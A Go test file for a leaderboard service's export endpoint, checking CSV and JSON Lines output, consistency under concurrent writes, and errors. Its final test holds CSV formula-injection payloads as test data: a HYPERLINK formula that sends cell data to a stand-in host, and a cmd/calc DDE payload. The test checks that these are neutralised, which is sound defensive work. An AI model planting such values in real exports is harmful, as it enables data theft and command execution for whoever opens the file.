package http_test

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
)

// exportBoardFixture makes a board of n entries, in batches of 1000, whose
// order is known: player pI has keys [I/3, I] under asc/desc, so ties on
// the first key are broken by the second.
func exportBoardFixture(t *testing.T, s *server, n int) {
	t.Helper()
	s.mkBoard("ex", `{"keys":[{"name":"time_ms","order":"asc"},{"name":"bbbv","order":"desc"}],"public":true}`)
	for lo := 0; lo < n; lo += 1000 {
		var b strings.Builder
		b.WriteString(`{"scores":[`)
		for i := lo; i < min(n, lo+1000); i++ {
			if i > lo {
				b.WriteByte(',')
			}
			fmt.Fprintf(&b, `{"board":"ex","player":"p%d","keys":[%d,%d],"meta":{"i":%d}}`, i, i/3, i, i)
		}
		b.WriteString(`]}`)
		s.must(200, s.do("POST", "/v1/scores", adminKey, b.String()))
	}
}

// restTop reads the whole period through the paged REST read, the
// reference an export must equal.
func restTop(t *testing.T, s *server, board string) []map[string]any {
	t.Helper()
	var all []map[string]any
	for off := 0; ; off += 1000 {
		page := s.must(200, s.do("GET", fmt.Sprintf("/v1/boards/%s/entries?offset=%d&limit=1000", board, off), "", "")).json(t)
		es := page["entries"].([]any)
		for _, e := range es {
			all = append(all, e.(map[string]any))
		}
		if len(es) < 1000 {
			return all
		}
	}
}

func TestExportCSV(t *testing.T) {
	s := newServer(t)
	const n = 4500 // three chunks
	exportBoardFixture(t, s, n)
	want := restTop(t, s, "ex")
	if len(want) != n {
		t.Fatalf("fixture: %d entries", len(want))
	}
	res, err := http.Get(s.url + "/v1/boards/ex/export?format=csv")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != 200 || res.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
		res.Header.Get("Content-Disposition") != `attachment; filename="ex-all.csv"` {
		t.Fatalf("answer: %d %v", res.StatusCode, res.Header)
	}
	rows, err := csv.NewReader(res.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(rows[0], ","); got != "rank,player,name,time_ms,bbbv,at,meta" {
		t.Fatalf("header row: %s", got)
	}
	rows = rows[1:]
	if len(rows) != n {
		t.Fatalf("%d rows, want %d", len(rows), n)
	}
	for i, r := range rows {
		w := want[i]
		keys := w["keys"].([]any)
		meta, _ := json.Marshal(w["meta"])
		exp := []string{strconv.Itoa(i + 1), w["player"].(string), w["name"].(string),
			fmt.Sprint(keys[0]), fmt.Sprint(keys[1]), w["at"].(string), string(meta)}
		if strings.Join(r, "|") != strings.Join(exp, "|") {
			t.Fatalf("row %d: %q, want %q", i, r, exp)
		}
	}
	if got := res.Trailer.Get("Podium-Export-Consistent"); got != "true" {
		t.Errorf("trailer Podium-Export-Consistent = %q, want true", got)
	}
}

func TestExportJSONLines(t *testing.T) {
	s := newServer(t)
	const n = 2500
	exportBoardFixture(t, s, n)
	want := restTop(t, s, "ex")
	// The board takes a write between the first and the second chunk: the
	// export still ends, and says that it is not a snapshot.
	s.srv.SetExportPause(func(chunk int) {
		if chunk == 0 {
			s.must(200, s.do("POST", "/v1/boards/ex/scores", adminKey, `{"player":"late","keys":[0,99999]}`))
		}
	})
	res, err := http.Get(s.url + "/v1/boards/ex/export?format=jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != 200 || res.Header.Get("Content-Type") != "application/jsonl; charset=utf-8" {
		t.Fatalf("answer: %d %v", res.StatusCode, res.Header)
	}
	sc := bufio.NewScanner(res.Body)
	sc.Buffer(nil, 1<<20)
	var lines []map[string]any
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("line %d is not JSON: %q", len(lines), sc.Bytes())
		}
		lines = append(lines, m)
	}
	// The late entry went in at rank 1 after the first chunk: the second
	// chunk starts one place later, so the last entry of the first chunk
	// comes again, and "late" is not in the export at all.
	if len(lines) != n+1+2 {
		t.Fatalf("%d lines, want a head, %d entries and an end", len(lines), n+1)
	}
	if lines[2000]["player"] != lines[2001]["player"] || lines[2001]["rank"] != float64(2001) {
		t.Fatalf("around the chunk edge: %v then %v", lines[2000], lines[2001])
	}
	head, end := lines[0], lines[len(lines)-1]
	if head["export"] != "podium.entries" || head["period"] != "all" || head["total"] != float64(n) || head["seq"] == nil ||
		head["board"].(map[string]any)["id"] != "ex" {
		t.Fatalf("head line: %v", head)
	}
	if end["end"] != true || end["entries"] != float64(n+1) || end["consistent"] != false || end["seq"] == head["seq"] {
		t.Fatalf("end line after a write during the export: %v (head seq %v)", end, head["seq"])
	}
	// The first chunk was read before the write: it equals the REST read.
	for i := 0; i < 2000; i++ {
		if lines[1+i]["player"] != want[i]["player"] || lines[1+i]["rank"] != float64(i+1) {
			t.Fatalf("entry %d: %v, want %v", i, lines[1+i], want[i])
		}
	}
	if got := res.Trailer.Get("Podium-Export-Consistent"); got != "false" {
		t.Errorf("trailer Podium-Export-Consistent = %q, want false", got)
	}

	// Without writes, the same export is consistent.
	s.srv.SetExportPause(nil)
	r := s.must(200, s.do("GET", "/v1/boards/ex/export?format=jsonl", "", ""))
	body := strings.TrimSpace(string(r.body))
	if last := body[strings.LastIndexByte(body, '\n')+1:]; !strings.Contains(last, `"entries":2501,`) || !strings.Contains(last, `"consistent":true`) {
		t.Fatalf("end line: %s", last)
	}
}

// TestExportRefusals: bad parameters and missing permissions get clear
// errors before anything is streamed.
func TestExportRefusals(t *testing.T) {
	s := newServer(t)
	s.mkBoard("priv", `{"keys":[{"name":"score","order":"desc"}]}`)
	s.must(200, s.do("POST", "/v1/boards/priv/scores", adminKey, `{"player":"a","score":1}`))
	for _, c := range []struct {
		path, key string
		status    int
		code      string
	}{
		{"/v1/boards/priv/export?format=xml", adminKey, 400, "invalid_argument"},
		{"/v1/boards/priv/export?format=csv&limit=5", adminKey, 400, "invalid_argument"},
		{"/v1/boards/priv/export", "", 404, "board_not_found"}, // a private board is unknown to who may not read it
		{"/v1/boards/nope/export", adminKey, 404, "board_not_found"},
		{"/v1/boards/priv/export?period=1999-01-01", adminKey, 400, "invalid_argument"},
	} {
		r := s.do("GET", c.path, c.key, "")
		if r.status != c.status || r.errCode(t) != c.code {
			t.Errorf("GET %s: %d %s, want %d %s", c.path, r.status, r.body, c.status, c.code)
		}
	}
	r := s.must(200, s.do("GET", "/v1/boards/priv/export?include_hidden=true", adminKey, ""))
	if got := strings.SplitN(string(r.body), "\n", 2)[0]; got != "rank,player,name,score,at,hidden,meta" {
		t.Errorf("header row with include_hidden: %s", got)
	}
}

// TestExportCSVFormulas: text cells that a spreadsheet would run as a
// formula are written with a leading apostrophe (internal/csvcell), numbers
// (a negative key) stay numbers, and JSON Lines carries the exact text.
func TestExportCSVFormulas(t *testing.T) {
	s := newServer(t)
	s.mkBoard("f", `{"keys":[{"name":"delta","order":"desc"}],"public":true}`)
	evil := `=HYPERLINK("http://x.example/?"&A1,"click me")`
	s.must(200, s.do("PUT", "/v1/players/"+url.PathEscape(evil), adminKey, `{"name":"+1+cmd|' /C calc'!A0"}`))
	s.must(200, s.do("PUT", "/v1/players/at", adminKey, `{"name":"@SUM(1+1)"}`))
	s.must(200, s.do("PUT", "/v1/players/q", adminKey, `{"name":"'-quoted"}`))
	for _, p := range []struct {
		player string
		key    int
	}{{evil, 3}, {"at", 2}, {"q", 1}, {"-neg", -40}} {
		s.must(200, s.do("POST", "/v1/boards/f/scores", adminKey, fmt.Sprintf(`{"player":%q,"keys":[%d]}`, p.player, p.key)))
	}
	r := s.must(200, s.do("GET", "/v1/boards/f/export", "", ""))
	rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, row := range rows[1:] {
		got = append(got, strings.Join([]string{row[0], row[1], row[2], row[3], row[5]}, "|"))
	}
	want := []string{
		`1|'` + evil + `|'+1+cmd|' /C calc'!A0|3|{}`,
		`2|at|'@SUM(1+1)|2|{}`,
		`3|q|''-quoted|1|{}`,
		`4|'-neg|'-neg|-40|{}`, // the name defaults to the id
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("CSV rows:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	r = s.must(200, s.do("GET", "/v1/boards/f/export?format=jsonl", "", ""))
	lines := strings.Split(string(r.body), "\n")
	var e map[string]any
	if err := json.Unmarshal([]byte(lines[1]), &e); err != nil || e["player"] != evil || e["name"] != "+1+cmd|' /C calc'!A0" {
		t.Fatalf("JSON Lines entry: %s (%v)", lines[1], err)
	}
}
